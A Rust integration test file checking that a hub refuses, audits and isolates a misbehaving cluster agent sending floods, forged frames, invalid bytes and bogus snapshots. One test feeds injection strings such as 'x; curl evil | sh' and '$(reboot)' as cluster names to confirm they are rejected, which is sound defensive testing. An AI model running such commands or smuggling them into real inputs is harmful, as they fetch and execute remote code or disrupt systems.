//! An agent with a good certificate and bad intentions: what it sends is refused and written down, it costs other clusters
//! nothing, and no forge hears of it.

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use anyhow::{Result, ensure};
use bytes::Bytes;
use nabu_common::canonical::spec_hash;
use nabu_proto::agent_v1::session_request::Frame;
use nabu_proto::agent_v1::session_response::Frame as Answer;
use nabu_proto::agent_v1::{
    Applied, Deleted, GoodbyeReason, Heartbeat, ObjectRef, Observed, RefusalCode, ResponseObjects,
    SnapshotBegin, SnapshotEnd, StatusRefused, observed,
};
use nabu_tests::hub::{HubOptions, TestHub};
use nabu_tests::mangle::mangle;
use nabu_tests::objects::{config, event_response};
use nabu_tests::process::free_port;
use nabu_tests::wait::eventually;
use serde_json::json;
use tokio::net::TcpListener;
use tokio::task::AbortHandle;

use crate::bed::{LIMIT, small_change};
use crate::identity::{Liar, hello, hub, sqlite};

pub(crate) fn uid(number: u32) -> String {
    format!("00000000-0000-4000-8000-{number:012}")
}

/// A whole and honest frame.
pub(crate) fn observation(number: u32, name: &str) -> Observed {
    let spec = event_response("se", "ugallu-gitops-responder", small_change());
    let object = json!({"metadata": {"name": name, "uid": uid(number)}, "spec": spec});
    Observed {
        r#ref: Some(ObjectRef {
            uid: uid(number),
            name: name.to_owned(),
        }),
        spec_hash: spec_hash(&spec).to_vec().into(),
        content: Some(observed::Content::Objects(ResponseObjects {
            event_response_json: object.to_string().into(),
            ..ResponseObjects::default()
        })),
        ..Observed::default()
    }
}

pub(crate) async fn welcomed(hub: &TestHub, cluster: &str) -> Result<Liar> {
    let mut liar = Liar::connect(hub, cluster, hello(cluster)).await?;
    assert!(matches!(liar.hear().await?, Answer::Welcome(_)));
    Ok(liar)
}

/// Answers until one of this kind comes.
pub(crate) async fn until<T>(liar: &mut Liar, wanted: impl Fn(Answer) -> Option<T>) -> Result<T> {
    loop {
        if let Some(found) = wanted(liar.hear().await?) {
            return Ok(found);
        }
    }
}

pub(crate) async fn forge_calls(hub: &TestHub) -> Result<f64> {
    let series = "ugallu_gitops_responder_attempts_total{outcome=\"succeeded\"}";
    hub.metric(series).await
}

/// A hub whose route for prod-eu leads to a forge that counts who comes to it; other clusters' responses need none.
pub(crate) struct Watched {
    pub(crate) hub: TestHub,
    calls: Arc<AtomicU32>,
    door: AbortHandle,
}

impl Watched {
    pub(crate) async fn start() -> Result<Self> {
        let door = TcpListener::bind("127.0.0.1:0").await?;
        let url = format!("http://{}", door.local_addr()?);
        let calls = Arc::<AtomicU32>::default();
        let counted = Arc::clone(&calls);
        let door = tokio::spawn(async move {
            while let Ok((caller, _)) = door.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(caller);
            }
        });
        Ok(Self {
            hub: TestHub::start(&documents(&url), HubOptions::default()).await?,
            calls,
            door: door.abort_handle(),
        })
    }

    /// Connections to the forge so far.
    pub(crate) fn calls(&self) -> u32 {
        self.calls.load(Ordering::SeqCst)
    }
}

impl Drop for Watched {
    fn drop(&mut self) {
        self.door.abort();
    }
}

/// A hub that still serves an honest agent of another cluster.
pub(crate) async fn serves_others(hub: &TestHub) -> Result<()> {
    let mut honest = welcomed(hub, "prod-us").await?;
    honest.say(Frame::Observed(observation(7, "er-7"))).await?;
    let done = until(&mut honest, |answer| match answer {
        Answer::Status(status) if status.phase == 3 => Some(status),
        _ => None,
    });
    assert!(done.await?.provider_ref.starts_with("noop://") || forge_calls(hub).await? > 0.0);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_heartbeats_ends_the_session_and_is_written_down_once() -> Result<()> {
    let watched = Watched::start().await?;
    let hub = &watched.hub;
    let mut liar = welcomed(hub, "prod-eu").await?;
    for _ in 0..100_000 {
        // The hub is through with us before we are with it.
        if liar
            .say(Frame::Heartbeat(Heartbeat::default()))
            .await
            .is_err()
        {
            break;
        }
    }
    let goodbye = until(&mut liar, |answer| match answer {
        Answer::Goodbye(goodbye) => Some(goodbye),
        _ => None,
    })
    .await?;
    assert_eq!(goodbye.reason(), GoodbyeReason::ProtocolError);
    assert!(
        goodbye.message.contains("heartbeats"),
        "{}",
        goodbye.message
    );
    assert!(
        goodbye
            .reconnect_after
            .is_some_and(|after| after.seconds > 0)
    );
    let audited = sqlite(hub, "SELECT actor FROM audit WHERE action = 'SessionEnded'")?;
    assert_eq!(audited, "agent/prod-eu\n");
    serves_others(hub).await?;
    assert_eq!(watched.calls(), 0);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_no_uid_of_a_namespace_is_refused_before_anybody_pastes_it() -> Result<()> {
    let hub = hub().await?;
    let first = welcomed(&hub, "prod-eu").await?;
    for said in ["x; curl evil | sh", "$(reboot)", "a\nb", &"a".repeat(65)] {
        let mut liar = Liar::connect(&hub, "prod-eu", hello(said)).await?;
        let Answer::Goodbye(goodbye) = liar.hear().await? else {
            anyhow::bail!("{said:?} is let in");
        };
        ensure!(goodbye.message.contains("letters, digits and dashes"));
    }
    let listed = hub.nabuctl(&["cluster", "list", "-o", "json"])?;
    ensure!(
        listed.contains("\"refusedKubeSystemUid\": \"\""),
        "{listed}"
    );
    drop(first);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn frames_for_other_clusters_end_the_session_before_they_fill_the_audit_log() -> Result<()> {
    let watched = Watched::start().await?;
    let hub = &watched.hub;
    let mut liar = welcomed(hub, "prod-eu").await?;
    let mut sent = 0;
    let goodbye = loop {
        let mut frame = observation(sent, &format!("er-{sent}"));
        frame.cluster_id = "prod-us".to_owned();
        sent += 1;
        // Credit comes back with each answer; the stream ends with Goodbye.
        let _ = liar.say(Frame::Observed(frame)).await;
        match liar.hear().await? {
            Answer::Goodbye(goodbye) => break goodbye,
            Answer::Refused(refused) => assert_eq!(refused.code(), RefusalCode::NotAllowed),
            _ => {}
        }
    };
    assert_eq!(goodbye.reason(), GoodbyeReason::ProtocolError);
    let count = "SELECT count(*) FROM audit WHERE action = 'FrameRefused'";
    let audited: u32 = sqlite(hub, count)?.trim().parse()?;
    assert!((1..100).contains(&audited), "{audited} of {sent}");
    assert_eq!(sqlite(hub, "SELECT count(*) FROM responses")?, "0\n");
    serves_others(hub).await?;
    assert_eq!(watched.calls(), 0);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn acknowledgements_from_the_future_and_of_others_change_nothing() -> Result<()> {
    let hub = hub().await?;
    let mut honest = welcomed(&hub, "prod-us").await?;
    honest.say(Frame::Observed(observation(1, "er-1"))).await?;
    let status = until(&mut honest, |answer| match answer {
        Answer::Status(status) if status.phase == 3 => Some(status),
        _ => None,
    })
    .await?;
    let mut liar = welcomed(&hub, "prod-eu").await?;
    for revision in [0, status.revision, u64::MAX] {
        liar.say(Frame::Applied(Applied {
            uid: uid(1),
            revision,
        }))
        .await?;
        liar.say(Frame::StatusRefused(StatusRefused {
            uid: uid(1),
            revision,
            reason: "x".repeat(100_000),
        }))
        .await?;
        let r#ref = observation(1, "er-1").r#ref;
        let gone = Deleted {
            r#ref,
            ..Deleted::default()
        };
        liar.say(Frame::Deleted(gone)).await?;
    }
    liar.say(Frame::Observed(observation(2, "er-2"))).await?;
    until(&mut liar, |answer| {
        matches!(answer, Answer::Accepted(_)).then_some(())
    })
    .await?;
    // What the other cluster has not acknowledged, it hears again.
    drop(honest);
    let mut again = welcomed(&hub, "prod-us").await?;
    let told = until(&mut again, |answer| match answer {
        Answer::Status(status) => Some(status),
        _ => None,
    });
    assert_eq!(told.await?.revision, status.revision);
    let refused =
        "SELECT count(*) FROM audit WHERE uid LIKE '%000000001' AND action = 'StatusRefused'";
    assert_eq!(
        sqlite(&hub, refused)?,
        "0\n",
        "nothing of the other's history"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn a_uid_stays_with_the_object_that_had_it_first() -> Result<()> {
    let hub = hub().await?;
    let mut liar = welcomed(&hub, "prod-eu").await?;
    liar.say(Frame::Observed(observation(1, "er-1"))).await?;
    liar.say(Frame::Observed(observation(1, "er-2"))).await?;
    let refused = until(&mut liar, |answer| match answer {
        Answer::Refused(refused) => Some(refused),
        _ => None,
    });
    assert_eq!(refused.await?.code(), RefusalCode::Conflicting);
    assert_eq!(sqlite(&hub, "SELECT name FROM responses")?, "er-1\n");
    let audited = "SELECT actor || ' ' || detail FROM audit WHERE action = 'FrameRefused'";
    let line = sqlite(&hub, audited)?;
    assert!(line.starts_with("agent/prod-eu "), "{line}");
    assert!(
        line.contains("belongs to the EventResponse \"er-1\""),
        "{line}"
    );
    serves_others(&hub).await?;
    let attempts = "SELECT count(*) FROM attempts a JOIN responses r ON r.id = a.response WHERE r.cluster = 'prod-eu'";
    assert_eq!(sqlite(&hub, attempts)?, "1\n", "of er-1 alone");
    Ok(())
}

/// Says every frame and hears an answer to each; gives how many were refused.
async fn refused(liar: &mut Liar, frames: impl Iterator<Item = Observed>) -> Result<usize> {
    let mut refused = 0;
    for frame in frames {
        liar.say(Frame::Observed(frame)).await?;
        refused += until(liar, |answer| match answer {
            Answer::Refused(_) => Some(1),
            Answer::Accepted(_) => Some(0),
            _ => None,
        })
        .await?;
    }
    Ok(refused)
}

/// The objects of an honest frame, changed.
fn with_objects(change: impl FnOnce(&mut ResponseObjects)) -> Observed {
    let mut frame = observation(1, "er-1");
    if let Some(observed::Content::Objects(objects)) = &mut frame.content {
        change(objects);
    }
    frame
}

/// These bytes with one that no text has, at a place of somebody's choice.
fn no_text(text: &[u8], place: usize) -> Bytes {
    let mut bytes = text.to_vec();
    let place = place * 7919 % bytes.len();
    bytes[place] = 0xff;
    bytes.into()
}

#[tokio::test(flavor = "multi_thread")]
async fn bytes_that_are_no_text_are_refused_each_written_down_and_asked_of_no_forge() -> Result<()>
{
    const EACH: usize = 150;
    let watched = Watched::start().await?;
    let hub = &watched.hub;
    let mut liar = welcomed(hub, "prod-eu").await?;
    let events = (0..EACH).map(|place| {
        with_objects(|objects| {
            objects.security_event_json =
                no_text(br#"{"metadata":{"name":"se"},"spec":{}}"#, place);
        })
    });
    assert_eq!(refused(&mut liar, events).await?, EACH);
    let responses = (0..EACH).map(|place| {
        with_objects(|objects| {
            objects.event_response_json = no_text(&objects.event_response_json, place);
        })
    });
    assert_eq!(refused(&mut liar, responses).await?, EACH);
    let audited =
        "SELECT count(*) FROM audit WHERE action = 'FrameRefused' AND actor = 'agent/prod-eu'";
    let audited: u32 = sqlite(hub, audited)?.trim().parse()?;
    assert!((1..100).contains(&audited), "{audited}");
    assert_eq!(sqlite(hub, "SELECT count(*) FROM responses")?, "0\n");
    serves_others(hub).await?;
    assert_eq!(watched.calls(), 0);
    // It is this session that goes on, and this forge that would have been called.
    liar.say(Frame::Observed(observation(2, "er-2"))).await?;
    eventually("the forge is called", LIMIT, || async {
        (watched.calls() > 0).then_some(())
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
async fn objects_that_are_spoiled_somewhere_leave_the_session_open() -> Result<()> {
    let hub = hub().await?;
    let mut liar = welcomed(&hub, "prod-eu").await?;
    let spoiled = (0..300).map(|seed| {
        with_objects(|objects| {
            objects.event_response_json = mangle(&objects.event_response_json, seed).into();
        })
    });
    let refused = refused(&mut liar, spoiled).await?;
    assert!(refused > 100, "{refused}");
    serves_others(&hub).await
}

#[tokio::test(flavor = "multi_thread")]
async fn inventories_without_end_and_without_begin_are_not_believed() -> Result<()> {
    let hub = hub().await?;
    let mut liar = welcomed(&hub, "prod-eu").await?;
    liar.say(Frame::Observed(observation(1, "er-1"))).await?;
    for (begin, end, count) in [(1, 2, 0), (3, 3, u64::MAX)] {
        liar.say(Frame::SnapshotBegin(SnapshotBegin { snapshot_id: begin }))
            .await?;
        liar.say(Frame::SnapshotEnd(SnapshotEnd {
            snapshot_id: end,
            count,
        }))
        .await?;
    }
    for _ in 0..10_000 {
        let begin = Frame::SnapshotBegin(SnapshotBegin { snapshot_id: 9 });
        if liar.say(begin).await.is_err() {
            break;
        }
    }
    let goodbye = until(&mut liar, |answer| match answer {
        Answer::Goodbye(goodbye) => Some(goodbye),
        _ => None,
    });
    assert!(goodbye.await?.message.contains("inventories"));
    let deleted = "SELECT count(*) FROM responses WHERE deleted = 1";
    assert_eq!(sqlite(&hub, deleted)?, "0\n");
    serves_others(&hub).await
}

/// What is of prod-eu goes to the forge at `url`; everything else needs none.
fn documents(url: &str) -> [(&'static str, String); 2] {
    let routes = format!(
        "  routes:
    - match: {{ clusters: [prod-eu] }}
      provider:
        kind: forgejo-token
        baseURL: {url}
        repository: o/r
        credentialsRef: {{ name: bot }}
    - provider: {{ kind: noop, repository: o/r }}
"
    );
    let secret = "apiVersion: v1\nkind: Secret\nmetadata: { name: bot, namespace: ugallu-system }\n\
        stringData: { token: unused }\n";
    [
        ("config.yaml", config(&routes)),
        ("secret.yaml", secret.to_owned()),
    ]
}

/// A hub for which nothing of prod-eu ever ends, and so many unfinished responses are enough.
pub(crate) fn stuck(limit: u32) -> Result<([(&'static str, String); 2], HubOptions)> {
    // Its forge is down for the time being: nothing ends, and nothing is given up.
    let documents = documents(&format!("http://127.0.0.1:{}", free_port()?));
    let options = HubOptions {
        arguments: vec!["--max-unfinished".to_owned(), limit.to_string()],
        ..HubOptions::default()
    };
    Ok((documents, options))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_cluster_that_asks_for_too_much_is_held_back_and_others_are_served() -> Result<()> {
    let (documents, options) = stuck(100)?;
    let hub = TestHub::start(&documents, options).await?;
    let mut liar = welcomed(&hub, "prod-eu").await?;
    let flood = tokio::spawn(async move {
        let (mut number, mut credit) = (0, 64);
        while number < 5000 {
            for _ in 0..std::mem::take(&mut credit) {
                let frame = observation(number, &format!("er-{number}"));
                liar.say(Frame::Observed(frame)).await?;
                number += 1;
            }
            if let Answer::Credit(more) = liar.hear().await? {
                credit += more.observed;
            }
        }
        anyhow::Ok(())
    });
    eventually("the cluster is held", LIMIT, || async {
        let held = "SELECT count(*) FROM audit WHERE action = 'ClusterHeld'";
        (sqlite(&hub, held).ok()? == "1\n").then_some(())
    })
    .await?;
    serves_others(&hub).await?;
    let of_it = "SELECT count(*) FROM responses WHERE cluster = 'prod-eu'";
    let stored: u32 = sqlite(&hub, of_it)?.trim().parse()?;
    assert!((100..2000).contains(&stored), "{stored}");
    flood.abort();
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn more_frames_than_there_is_credit_for_end_the_session() -> Result<()> {
    // Nothing is given back: the first response is unfinished for ever.
    let (documents, options) = stuck(1)?;
    let hub = TestHub::start(&documents, options).await?;
    let mut liar = welcomed(&hub, "prod-eu").await?;
    liar.say(Frame::Observed(observation(0, "er-0"))).await?;
    until(&mut liar, |answer| {
        matches!(answer, Answer::Accepted(_)).then_some(())
    })
    .await?;
    for number in 1..200 {
        // The hub is through with us before we are with it.
        let frame = observation(number, &format!("er-{number}"));
        if liar.say(Frame::Observed(frame)).await.is_err() {
            break;
        }
    }
    let goodbye = until(&mut liar, |answer| match answer {
        Answer::Goodbye(goodbye) => Some(goodbye),
        _ => None,
    });
    assert!(goodbye.await?.message.contains("credit"));
    Ok(())
}
